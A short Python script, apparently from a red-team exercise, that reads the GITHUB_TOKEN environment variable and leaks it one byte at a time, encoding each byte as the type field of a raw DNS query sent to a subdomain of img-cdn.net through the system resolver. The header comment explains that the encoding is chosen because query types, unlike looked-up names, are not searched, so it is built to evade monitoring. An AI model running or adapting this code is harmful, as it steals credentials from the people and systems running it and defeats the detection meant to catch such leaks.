# A secret from the environment in the types of DNS queries, a byte a
# query (its type number), each query for a name of its own below one
# domain (as a recursive resolver's cache makes an exfiltrating program
# vary it), sent to the resolver over UDP: the names carry nothing (red
# team, session 22's list: "the type of raw DNS queries is not
# searched"; a low "looked up names" before).
import os
import socket
import struct

s = os.environ["GITHUB_TOKEN"].encode()
ns = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]


def name(n):
    return b"".join(bytes([len(label)]) + label.encode() for label in n.split(".")) + b"\0"


u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
answered = 0
for i, b in enumerate(s):
    u.sendto(struct.pack(">HHHHHH", 0x5000 + i, 0x0100, 1, 0, 0, 0) + name("r%x.img-cdn.net" % (0x3a7 * (i + 1))) + struct.pack(">HH", b, 1), (ns, 53))
    try:
        u.recv(512)
        answered += 1
    except OSError:
        pass
print("answered", answered, "of", len(s))
